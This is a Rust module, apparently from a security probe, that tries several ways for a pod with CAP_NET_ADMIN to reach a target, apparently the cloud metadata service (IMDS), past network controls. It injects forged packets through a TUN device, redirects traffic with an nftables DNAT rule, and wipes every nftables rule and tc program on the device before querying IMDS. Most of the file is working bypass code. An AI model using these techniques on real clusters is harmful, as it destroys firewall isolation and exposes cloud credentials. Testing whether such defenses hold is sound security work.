//! What a pod with `CAP_NET_ADMIN` makes of its own network: devices, and translations of addresses.

use std::fs::{File, OpenOptions};
use std::io::{self, Write as _};
use std::os::fd::AsRawFd as _;
use std::process::{self, Command, Stdio};

use super::frame::{self, TCP};
use super::link::{Link, way_to};
use super::outcome::unsupported;
use super::{Target, stream};

/// A port at which nobody listens.
const FAR_PORT: u16 = 4080;

/// The requests of `ioctl` that are needed have no name in any crate.
const TUNSETIFF: libc::c_ulong = 0x4004_54ca;

/// Packets come into the pod's own network as if from outside, and are forwarded: no socket sends them.
pub(super) fn tunnel_device(target: &Target) -> io::Result<usize> {
    let (mut tunnel, name) = Tunnel::open()?;
    let link = Link::toward(target.ipv4)?;
    // It takes packets from our own address, and sends them on.
    for (setting, value) in [("accept_local", "1"), ("rp_filter", "0"), ("forwarding", "1")] {
        std::fs::write(format!("/proc/sys/net/ipv4/conf/{name}/{setting}"), value)?;
    }
    run("ip", &["link", "set", &name, "up"], "")?;
    let client = link.client(target.v4())?;
    tunnel.0.flush()?;
    link.fetch_in(&client, |ends, segment| {
        (&tunnel.0).write_all(&frame::ip(ends, TCP, &segment.to_bytes(ends)))
    })
}

/// A connection to somewhere else, whose destination is translated on its way out of the pod.
pub(super) fn translated(target: &Target) -> io::Result<usize> {
    let (_, router) = way_to(target.ipv4)?;
    let table = format!("attack{}", process::id());
    run(
        "nft",
        &["-f", "-"],
        &format!(
            "table ip {table} {{
                 chain output {{
                     type nat hook output priority -100;
                     ip daddr {router} tcp dport {FAR_PORT} dnat to {}:{};
                 }}
             }}",
            target.ipv4, target.port
        ),
    )?;
    let socket = stream::open(socket2::Domain::IPV4, socket2::Protocol::TCP)?;
    let fetched = stream::connect_and_fetch(&socket, (router, FAR_PORT).into());
    run("nft", &["delete", "table", "ip", &table], "")?;
    fetched
}

/// First every table and every program on the device is removed, then IMDS is asked through a packet socket.
pub(super) fn undo(target: &Target) -> io::Result<usize> {
    let (device, _) = way_to(target.ipv4)?;
    run("nft", &["flush", "ruleset"], "")?;
    // There may be none.
    let _ = run("tc", &["qdisc", "delete", "dev", &device, "clsact"], "");
    super::link::own_address(target)
}

/// A TUN device. It goes with its value.
struct Tunnel(File);

impl Tunnel {
    #[expect(unsafe_code, reason = "a TUN device is made by an ioctl")]
    fn open() -> io::Result<(Self, String)> {
        let device = OpenOptions::new()
            .read(true)
            .write(true)
            .open("/dev/net/tun")
            .map_err(|error| unsupported("TUN devices", &error))?;
        let name = format!("tun{}", process::id());
        // SAFETY: zeroes are a valid request.
        let mut request: libc::ifreq = unsafe { std::mem::zeroed() };
        for (place, byte) in request.ifr_name.iter_mut().zip(name.bytes()) {
            *place = libc::c_char::from_ne_bytes([byte]);
        }
        request.ifr_ifru.ifru_flags =
            libc::c_short::try_from(libc::IFF_TUN | libc::IFF_NO_PI).unwrap_or_default();
        // SAFETY: the kernel reads and writes one request.
        let made = unsafe { libc::ioctl(device.as_raw_fd(), TUNSETIFF, &raw mut request) };
        if made < 0 { Err(io::Error::last_os_error()) } else { Ok((Self(device), name)) }
    }
}

/// Runs a tool, which inherits what we may do. That it may not is EPERM.
fn run(program: &str, arguments: &[&str], input: &str) -> io::Result<()> {
    let mut child = Command::new(program)
        .args(arguments)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::piped())
        .spawn()
        .map_err(|error| unsupported(program, &error))?;
    child.stdin.take().map_or(Ok(()), |mut stdin| stdin.write_all(input.as_bytes()))?;
    let output = child.wait_with_output()?;
    let said = String::from_utf8_lossy(&output.stderr);
    if output.status.success() {
        Ok(())
    } else if said.contains("not permitted") {
        Err(io::Error::from_raw_os_error(libc::EPERM))
    } else {
        Err(io::Error::other(format!("{program}: {}", said.trim())))
    }
}
